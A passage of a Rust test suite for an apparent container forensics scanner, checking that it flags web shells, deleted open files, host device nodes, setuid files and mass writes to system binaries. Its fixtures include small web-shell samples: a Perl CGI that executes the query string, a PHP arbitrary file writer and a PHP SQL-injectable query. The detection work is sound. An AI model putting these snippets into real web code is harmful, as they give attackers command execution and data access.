        ("var/www/html/db.php", "<?php $q = \"SELECT `a` FROM `b` WHERE c='\" . $_POST['c'];"),
        ("var/www/html/up.php", "<?php file_put_contents($_POST['f'], $_POST['c']);"),
    ]));
    let id = "web-shell";
    severity(&found, id, "/var/www/html/a.php", Severity::Critical);
    severity(&found, id, "/var/www/html/logo.png", Severity::Critical);
    severity(&found, id, "/opt/tool/b.php", Severity::High);
    severity(&found, id, "/usr/local/tomcat/webapps/ROOT/c.jsp", Severity::Critical);
    severity(&found, id, "/usr/lib/cgi-bin/d.cgi", Severity::Critical);
    severity(&found, id, "/srv/site/.htaccess", Severity::High);
    severity(&found, id, "/var/www/html/wp-content/uploads/e.php", Severity::Medium);
    severity(&found, id, "/var/www/html/up.php", Severity::Medium);
    assert_eq!(of(&found, id).len(), 8);
    let script = "#!/usr/bin/perl\nprint `$ENV{'QUERY_STRING'}`;\n";
    let page = Member::file("var/www/html/f.pl", script).mode(0o755);
    let found = findings(&with_diff(vec![page, Member::file("var/www/html/g.pl", script)], &[]));
    severity(&found, id, "/var/www/html/f.pl", Severity::Critical);
    assert_eq!(of(&found, id).len(), 1);
}

#[test]
fn deleted_and_open() {
    let task = Task::new(7, 1)
        .fd(3, File::deleted("/tmp/.p", elf(9)))
        .fd(4, File::deleted("/opt/x/loot.zip", b"PK\x03\x04 and so on".to_vec()))
        .fd(5, File::deleted("/tmp/sort1234", b"sorted lines\n".to_vec()));
    let found = findings(&open(&Archive::podman(&dump([init(), task]))));
    severity(&found, "deleted-file-open", "/tmp/.p", Severity::High);
    severity(&found, "deleted-file-open", "/opt/x/loot.zip", Severity::Low);
    assert_eq!(of(&found, "deleted-file-open").len(), 2);
    assert_eq!(the(&found, "deleted-file-open", "/tmp/.p").pid.map(|pid| pid.0), Some(7));
}

#[test]
fn devices_of_the_host() {
    let mut tmpfs = Archive::new();
    tmpfs.dir("./").device("./null", 1, 3).device("./zero", 1, 5).device("./m", 1, 1);
    let found = findings(&with_tmpfs(&tmpfs));
    severity(&found, "device-node", "/dev/m", Severity::High);
    assert_eq!(of(&found, "device-node").len(), 1);
    let found = findings(&with_diff(
        vec![
            Member::new("opt/disk", Kind::BlockDevice(8, 0)),
            Member::new("opt/null", Kind::CharDevice(1, 3)),
            Member::new("opt/gone", Kind::CharDevice(0, 0)),
        ],
        &[],
    ));
    severity(&found, "device-node", "/opt/disk", Severity::High);
    severity(&found, "device-node", "/opt/null", Severity::Low);
    assert_eq!(of(&found, "device-node").len(), 2);
}

/// A volume is seen with the paths of its mount.
#[test]
fn files_of_a_volume() {
    let mut volume = Archive::new();
    volume.push(Member::file("up/x", shell()).mode(0o4755)).push(Member::file(".git/config", "x"));
    let mut archive = Archive::podman(&dump([init()]));
    archive.member("volumes/data.tar", volume.tar());
    let found = findings(&open(&archive));
    assert_eq!(of(&found, "setuid-or-setgid-file").len(), 1);
    assert!(of(&found, "hidden-file").is_empty());
}

/// Forty of a kind are one finding, which says so.
#[test]
fn many_of_a_kind_are_one() {
    let members: Vec<Member> = (0..40)
        .map(|number| Member::file(format!("usr/bin/t{number:02}"), elf(9)).mode(0o755))
        .collect();
    let found = findings(&with_diff(members, &[]));
    let all = of(&found, "system-program-written");
    assert_eq!(all.len(), 1);
    assert!(all[0].title.starts_with("40 times in /usr/bin"), "{}", all[0].title);
    assert!(all[0].evidence.len() < 20);
}

/// What an engine makes by itself is nobody's doing.
#[test]
fn honest_dumps_are_quiet() {
    let mut dump = Dump::new();
    dump.task(init());
    for archive in [
        Archive::podman(&dump),
        Archive::crio(&dump),
        Archive::containerd(&dump),
        Archive::docker_dir(&dump, "cp"),
        Archive::bare(&dump, ""),
    ] {
        let found = findings(&open(&archive));
        let loud: Vec<_> = found.iter().filter(|one| one.severity >= Severity::High).collect();
        assert!(loud.is_empty(), "{loud:#?}");
    }
}
